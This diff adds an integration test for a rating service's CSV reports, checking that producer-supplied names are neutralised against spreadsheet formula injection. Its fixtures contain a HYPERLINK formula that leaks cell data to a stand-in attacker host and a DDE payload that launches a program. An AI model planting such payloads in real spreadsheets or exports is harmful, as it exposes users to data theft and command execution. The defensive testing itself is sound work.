@@ -1,0 +1,62 @@
+import { parse } from 'csv-parse/sync';
+import { expectStatus } from '../../test/flows';
+import { RatingHarness, startRating } from '../../test/rating-harness';
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")';
+const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+/**
+ * A producer's name and its product's name reach rating through catalogue's events and end up in the
+ * coordination office's spreadsheets: they must arrive there as text, never as formulas.
+ */
+describe('report CSVs: formula injection (integration)', () => {
+  let h: RatingHarness;
+  let officer: string;
+
+  beforeAll(async () => {
+    h = await startRating('reports_csv');
+    const producerId = await h.seedProducer({ name: HYPERLINK });
+    const productId = await h.seedProduct({ producerId, nameVi: SUM, productSet: 1 });
+    await h.readModelHas('product_views', [productId]);
+    officer = await h.token({ roles: ['officer'], scope: { provinceCode: '83' } });
+    h.clock.set(new Date('2022-05-01T03:00:00Z'));
+    expectStatus(
+      await h.request('POST', '/certificates/import?dryRun=false', {
+        token: officer,
+        raw: {
+          contentType: 'text/csv',
+          payload: `product_id,product_name,producer_name,stars,decision_ref,decision_date\n${productId},,,4,-12/QĐ-UBND,2022-04-15`,
+        },
+      }),
+      200,
+    );
+  });
+
+  afterAll(async () => {
+    await h?.close();
+  });
+
+  it('writes the certified products with producer-controlled names neutralised, figures unchanged', async () => {
+    const res = await h.request('GET', '/reports/certified-products.csv?at=2022-06-30', { token: officer });
+    expect(res.status).toBe(200);
+    const text = res.raw.toString('utf8');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    const [header, ...rows] = parse(text, { bom: true }) as string[][];
+    expect(rows).toHaveLength(1);
+    const cell = (column: string) => rows[0][header.indexOf(column)];
+    expect(cell('Sản phẩm / Product')).toBe(`'${SUM}`);
+    expect(cell('Chủ thể / Producer')).toBe(`'${HYPERLINK}`);
+    expect(cell('Quyết định / Decision')).toBe("'-12/QĐ-UBND");
+    expect(cell('Sao / Stars')).toBe('4');
+    for (const value of rows[0]) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps the coverage CSV as it was: one row per commune, counts as numbers', async () => {
+    const res = await h.request('GET', '/reports/coverage.csv?map=bt-2022&at=2022-06-30', {
+      token: officer,
+    });
+    const [, ...rows] = parse(res.raw.toString('utf8'), { bom: true }) as string[][];
+    expect(rows).toHaveLength(157);
+    expect(rows.filter((r) => r[4] === '1' && r[5] === 'có / yes')).toHaveLength(1);
+  });
+});
